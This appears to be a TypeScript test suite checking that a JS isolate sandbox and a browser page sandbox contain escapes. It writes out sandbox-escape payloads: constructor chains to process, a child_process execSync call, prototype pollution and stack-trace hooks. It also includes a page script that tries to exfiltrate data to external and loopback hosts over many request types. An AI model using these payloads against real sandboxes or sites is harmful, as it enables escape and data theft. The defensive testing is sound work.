/**
 * Containment, past what test/environments/heuristic-sandbox.test.ts and the web tests already cover.
 *
 * Heuristic design: escape routes through the values that cross the isolate boundary (prototype
 * pollution both ways, constructor chains on the arguments, V8 stack-trace hooks, work left in
 * microtasks), each contained, and a whole episode that submits them scoring 0 with the reason.
 *
 * Web: a page that tries every way a page can reach another host — fetch, XHR, sendBeacon,
 * EventSource, WebSocket, <img>, <script>, <link>, CSS url(), <iframe>, a form POST, a navigation — at
 * a public address (203.0.113.1, example.com) and at a canary server on another loopback port. In
 * real Chromium and in happy-dom: the page sees failures, the backend lists the blocked requests, and
 * the canary never gets a single connection.
 */
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runEpisode } from '../../environments/episode-runner.ts';
import { heuristic } from '../../environments/heuristic/definition.ts';
import { Sandbox, SandboxError } from '../../environments/heuristic/sandbox.ts';
import { scriptedPolicy } from '../../environments/policies/scripted.ts';
import { ChromiumBackend } from '../../environments/web/chromium-backend.ts';
import type { WebBackend } from '../../environments/web/backend.ts';
import { HappyDomBackend } from '../../environments/web/happy-dom-backend.ts';
import { pageDocument } from '../../environments/web/page-document.ts';

const LIMITS = { memoryMb: 32, perCallMs: 200, totalMs: 2_000 };

async function outcome(code: string, args: unknown[] = [10, [20, 30]]): Promise<{ value?: unknown; error?: SandboxError }> {
  const sandbox = await Sandbox.create(code, 'priority', LIMITS).catch((err: unknown) => err);
  if (sandbox instanceof SandboxError) return { error: sandbox };
  if (!(sandbox instanceof Sandbox)) throw sandbox;
  try {
    return { value: await sandbox.call(args) };
  } catch (err) {
    if (err instanceof SandboxError) return { error: err };
    throw err;
  } finally {
    sandbox.dispose();
  }
}

describe('heuristic sandbox: escapes through the boundary', () => {
  it('pollution of Object.prototype inside the isolate stays inside it', async () => {
    const r = await outcome('Object.prototype.polluted = "yes"; Array.prototype.map = function () { return "hijacked"; };\nfunction priority(item, bins) { return [({}).polluted]; }');
    expect(r.value).toEqual(['yes']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect([1].map((x) => x + 1)).toEqual([2]);
  });

  it('a "__proto__" key in a returned value reaches the host as plain data, not as a prototype', async () => {
    const r = await outcome('function priority() { return JSON.parse(\'{"__proto__": {"polluted": true}, "x": 1}\'); }');
    const value = r.value as Record<string, unknown>;
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(value.polluted).toBeUndefined();
  });

  it.each([
    ['the arguments\' constructor chain', 'function priority(item, bins) { return bins.constructor.constructor("return process")().pid; }', /process is not defined/],
    ['a number argument\'s constructor chain', 'function priority(item) { return item.constructor.constructor("return globalThis.process")().env; }', /Cannot read properties of undefined/],
    ['Error.prepareStackTrace call sites', 'function priority() { Error.prepareStackTrace = (e, s) => s.map((c) => c.getThis() && c.getThis().process); const st = new Error().stack; if (st.some(Boolean)) return "escaped"; throw new Error("no host frames"); }', /no host frames/],
    ['eval of a host global', 'function priority() { return eval("process.mainModule"); }', /process is not defined/],
    ['the caller of the function', 'function priority() { return priority.caller.constructor("return process")(); }', /process is not defined|Cannot read properties of null|caller/],
    ['unbounded recursion', 'function priority() { return priority(); }', /Maximum call stack size exceeded/],
  ])('contains %s', async (_name, code, reason) => {
    const r = await outcome(code);
    expect(r.value, `escaped with ${JSON.stringify(r.value)}`).toBeUndefined();
    expect(r.error?.kind).toBe('exception');
    expect(r.error?.message).toMatch(reason);
  });

  it('stops work left behind in a microtask or a promise chain', async () => {
    const started = performance.now();
    const r = await outcome('function priority() { Promise.resolve().then(() => { for (;;) {} }); return [1]; }');
    // Either the call's own time limit ends the loop, or the queued job never runs on the host's time.
    if (r.error) expect(r.error.kind).toBe('timeout');
    else expect(r.value).toEqual([1]);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect((await outcome('function priority(item) { return item * 2; }', [21])).value).toBe(42);
  });

  it('an episode that submits escape attempts scores 0 for each, with the reason, and the host is unaffected', async () => {
    const js = (code: string) => '```js\n' + code + '\n```';
    const result = await runEpisode({
      definition: heuristic,
      task: { problem: 'bin-packing', seed: 3 },
      options: { submissions: 3 },
      policy: scriptedPolicy([
        js('function priority(item, bins) { return bins.constructor.constructor("return process")().mainModule.require("child_process").execSync("id"); }'),
        js('Object.prototype.toJSON = function () { for (;;) {} };\nfunction priority(item, bins) { return bins.map(() => 0); }'),
        js('function priority(item, bins) { return bins.map(() => 0); }'),
      ], 'escape attempts'),
      seed: 0,
    });
    const observations = result.transcript.filter((e) => e.kind === 'observation').map((e) => e.text);
    expect(observations[1]).toMatch(/scored 0: priority\(\) threw: process is not defined/);
    expect(observations[2]).toMatch(/scored 0|scored 1/);
    // The last, honest submission is first-fit: the best score of the episode, exactly the baseline.
    expect(result.reward).toBe(1);
    expect(({} as Record<string, unknown>).toJSON).toBeUndefined();
  });
});

/** A TCP listener that only counts: a connection that sends a single byte is a request that got out. */
interface Canary {
  origin: string;
  /** TCP connections accepted, and of those, the ones that sent data (a request). */
  counts(): { connections: number; requests: number };
  reset(): void;
  close(): Promise<void>;
}

async function startCanary(): Promise<Canary> {
  let connections = 0;
  let requests = 0;
  const server: Server = createServer((socket: Socket) => {
    connections++;
    socket.once('data', () => {
      requests++;
      socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.setTimeout(2_000, () => socket.destroy());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    counts: () => ({ connections, requests }),
    reset: () => {
      connections = 0;
      requests = 0;
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
      }),
  };
}

/** Every way a page can make a request, at one target origin, ending with `status` = "done". */
function exfiltrationScript(target: string, ws: string): string {
  const t = JSON.stringify(target);
  return `
var T = ${t};
var status = document.getElementById('status');
var failed = [];
function note(name) { failed.push(name); }
var tries = [
  fetch(T + '/fetch?d=1').then(function () { return 'reached'; }, function () { note('fetch'); }),
  new Promise(function (resolve) { try { var x = new XMLHttpRequest(); x.open('POST', T + '/xhr'); x.onload = function () { resolve('reached'); }; x.onerror = function () { note('xhr'); resolve(); }; x.send('d=1'); } catch (e) { note('xhr'); resolve(); } }),
  new Promise(function (resolve) { try { navigator.sendBeacon(T + '/beacon', 'd=1'); } catch (e) {} resolve(); }),
  new Promise(function (resolve) { try { var es = new EventSource(T + '/events'); es.onerror = function () { es.close(); note('eventsource'); resolve(); }; es.onopen = function () { resolve('reached'); }; } catch (e) { note('eventsource'); resolve(); } }),
  new Promise(function (resolve) { try { var s = new WebSocket(${JSON.stringify(ws)}); s.onopen = function () { resolve('reached'); }; s.onerror = s.onclose = function () { note('websocket'); resolve(); }; } catch (e) { note('websocket'); resolve(); } }),
];
tries.push(new Promise(function (resolve) { try { var popup = window.open('about:blank'); if (!popup) { note('popup'); return resolve(); } var s = new popup.WebSocket(${JSON.stringify(ws)} + '-popup'); s.onopen = function () { resolve('reached'); }; s.onerror = s.onclose = function () { note('popup'); resolve(); }; } catch (e) { note('popup'); resolve(); } }));
var img = new Image(); img.src = T + '/pixel.gif';
var script = document.createElement('script'); script.src = T + '/x.js'; document.body.appendChild(script);
var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = T + '/x.css'; document.head.appendChild(link);
var styled = document.createElement('div'); styled.style.backgroundImage = 'url(' + T + '/bg.png)'; styled.textContent = 'bg'; document.body.appendChild(styled);
var frame = document.createElement('iframe'); frame.src = T + '/frame'; document.body.appendChild(frame);
// An attempt that neither opens nor fails within 4 s did not get through either; it is named as silent.
var bounded = tries.map(function (t, i) { return Promise.race([t, new Promise(function (resolve) { setTimeout(function () { note('silent' + i); resolve(); }, 4000); })]); });
Promise.all(bounded).then(function (results) {
  status.textContent = results.indexOf('reached') >= 0 ? 'reached' : 'done ' + failed.sort().join(',');
});`;
}

// The page leaves 2 s after it loads: Chromium commits an error page when the route aborts the request,
// which destroys the page's context, so the backend must have started the page before then (with 500 ms,
// a loaded machine lost that race: "Execution context was destroyed" from the backend's first evaluate).
const LEAVE_AFTER_MS = 2000;
const FORM_SCRIPT = (target: string) =>
  `var f = document.createElement('form'); f.method = 'POST'; f.action = ${JSON.stringify(`${target}/collect`)}; var i = document.createElement('input'); i.name = 'd'; i.value = 'secret'; f.appendChild(i); document.body.appendChild(f); setTimeout(function () { f.submit(); }, ${LEAVE_AFTER_MS});`;
const NAVIGATE_SCRIPT = (target: string) => `setTimeout(function () { window.location.href = ${JSON.stringify(`${target}/navigate?d=secret`)}; }, ${LEAVE_AFTER_MS});`;

describe.each([
  ['chromium', () => new ChromiumBackend()],
  ['happy-dom', () => new HappyDomBackend()],
] as const)('web sandbox on %s: a page cannot reach another address', (name, makeBackend) => {
  let backend: WebBackend;
  let canary: Canary;
  let pages: ServerType;
  let origin: string;

  beforeAll(async () => {
    backend = makeBackend();
    canary = await startCanary();
    const app = new Hono();
    const targets: Record<string, string> = { public: 'http://203.0.113.1', name: 'http://example.com', loopback: canary.origin, localhost: canary.origin.replace('127.0.0.1', 'localhost') };
    for (const [key, target] of Object.entries(targets)) {
      const ws = target.replace(/^http/, 'ws') + '/socket';
      app.get(`/exfiltrate/${key}`, (c) => c.html(pageDocument({ title: key, goal: 'none', body: '<p id="status">pending</p>', script: exfiltrationScript(target, ws), data: null })));
      app.get(`/form/${key}`, (c) => c.html(pageDocument({ title: key, goal: 'none', body: '<p id="status">form</p>', script: FORM_SCRIPT(target), data: null })));
      app.get(`/navigate/${key}`, (c) => c.html(pageDocument({ title: key, goal: 'none', body: '<p id="status">navigate</p>', script: NAVIGATE_SCRIPT(target), data: null })));
    }
    pages = await new Promise<ServerType>((resolve) => {
      const s = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(s));
    });
    origin = `http://127.0.0.1:${(pages.address() as AddressInfo).port}`;
  }, 60_000);

  afterAll(async () => {
    await backend?.close();
    await canary?.close();
    if (pages) await new Promise((resolve) => pages.close(resolve));
  });

  /**
   * No request reaches the canary. happy-dom opens no connection at all; Chromium, on a frame or page
   * navigation to a loopback origin, opens a TCP connection ahead of the request (its navigation
   * preconnect, which bypasses the proxy as loopback does) and sends nothing on it before the route aborts.
   */
  async function expectNothingReached(navigates: boolean): Promise<void> {
    await new Promise((resolve) => setTimeout(resolve, 300));
    const { connections, requests } = canary.counts();
    expect(requests).toBe(0);
    if (name === 'happy-dom' || !navigates) expect(connections).toBe(0);
    canarySeen.push(connections);
  }
  const canarySeen: number[] = [];

  it.each(['public', 'name', 'loopback', 'localhost'])('blocks every request kind to the %s target; the canary gets no request', async (key) => {
    canary.reset();
    const page = await backend.open({ url: `${origin}/exfiltrate/${key}`, allowedOrigin: origin, screenLines: 30, timeoutMs: 10_000 });
    try {
      await expect.poll(() => page.observe(), { timeout: 10_000 }).toMatch(/text "done [a-z0-9,]*"/);
      const view = await page.observe();
      expect(view).not.toMatch(/reached/);
      // The page's own view: the requests it could watch all failed.
      expect(view).toMatch(/fetch/);
      expect(view).toMatch(/xhr/);
      // Chromium's page does not always hear its routed-away WebSocket close (then it is "silent"); the
      // blocked list below is what proves it was stopped. A popup's own WebSocket likewise; happy-dom
      // opens no popup at all.
      expect(view).toMatch(/websocket|silent4/);
      expect(view).toMatch(/popup|silent5/);
      const blocked = page.blockedRequests.join('\n');
      expect(blocked).toMatch(/\/fetch\?d=1/);
      expect(blocked).toMatch(/\/xhr/);
      expect(blocked).toMatch(/\/socket/);
      if (name === 'chromium') expect(blocked).toMatch(/\/socket-popup/);
      if (name === 'chromium') {
        // Chromium also loads subresources and frames; each of those was stopped inside the browser.
        const paths = ['/pixel.gif', '/x.js', '/x.css', '/bg.png', '/frame', '/beacon', '/events'];
        await expect.poll(() => paths.filter((p) => !page.blockedRequests.some((u) => u.includes(p))), { timeout: 5_000 }).toEqual([]);
      }
      expect(page.blockedRequests.every((u) => !u.startsWith(origin))).toBe(true);
    } finally {
      await page.close();
    }
    // The exfiltration page has an iframe, a navigation.
    await expectNothingReached(true);
  }, 30_000);

  it.each(['public', 'loopback'])('blocks a form POST and a navigation to the %s target', async (key) => {
    canary.reset();
    const check = async (kind: 'form' | 'navigate') => {
      const page = await backend.open({ url: `${origin}/${kind}/${key}`, allowedOrigin: origin, screenLines: 30, timeoutMs: 10_000 });
      try {
        if (name === 'chromium') {
          // The navigation starts and the route aborts it.
          await expect.poll(() => page.blockedRequests.join('\n'), { timeout: 10_000 }).toMatch(kind === 'form' ? /\/collect/ : /\/navigate\?d=secret/);
        } else {
          // happy-dom refuses a cross-origin navigation before it makes any request: the page stays.
          await new Promise((resolve) => setTimeout(resolve, LEAVE_AFTER_MS + 1_000));
          expect(await page.observe()).toMatch(new RegExp(`text "${kind}"`));
          expect(page.blockedRequests).toEqual([]);
        }
      } finally {
        await page.close();
      }
    };
    // happy-dom's check is a fixed wait past the page's leave, so its two pages wait it out together;
    // Chromium's open one at a time (the backend must have started a page before it leaves, LEAVE_AFTER_MS).
    if (name === 'happy-dom') await Promise.all([check('form'), check('navigate')]);
    else for (const kind of ['form', 'navigate'] as const) await check(kind);
    await expectNothingReached(true);
  }, 30_000);

  it('reports what the canary saw (connections without a request, Chromium only)', () => {
    console.log(`${name}: canary connections per test ${JSON.stringify(canarySeen)}, requests 0`);
    if (name === 'happy-dom') expect(canarySeen.every((n) => n === 0)).toBe(true);
  });
});
